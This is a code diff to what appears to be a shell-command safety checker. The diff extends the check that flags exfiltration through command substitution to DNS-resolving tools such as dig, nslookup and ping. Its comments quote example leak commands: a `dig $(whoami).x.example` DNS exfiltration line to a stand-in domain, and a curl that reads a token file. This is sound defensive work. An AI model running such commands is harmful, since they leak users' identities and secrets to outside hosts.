@@ -69,7 +69,7 @@ const RECON =
  * `curl -H "Authorization: Bearer $(cat token)" https://api…` passes: that is a header.
  */
 function outputInDestination(c: Cmd): string | undefined {
-  if (!namesRemoteHost(c)) return undefined;
+  if (!namesRemoteHost(c) && !RESOLVES.has(c.r.name)) return undefined;
   for (const w of c.r.args) {
     if (!w.subst) continue;
     const raw = w.raw.replace(/^["']/, "");
@@ -82,6 +82,14 @@ function outputInDestination(c: Cmd): string | undefined {
   }
   return undefined;
 }
+
+/**
+ * Programs that look up every host operand in DNS: a substitution in a dotted name they are
+ * given leaves through the resolver whatever its top-level domain (`dig $(whoami).x.example`).
+ */
+const RESOLVES = new Set(
+  "dig nslookup host drill ping ping6 traceroute tracepath mtr whois getent".split(" "),
+);
 
 const DEV_NET = /^\/dev\/(?:tcp|udp)\/([^/\s]+)\//;
 
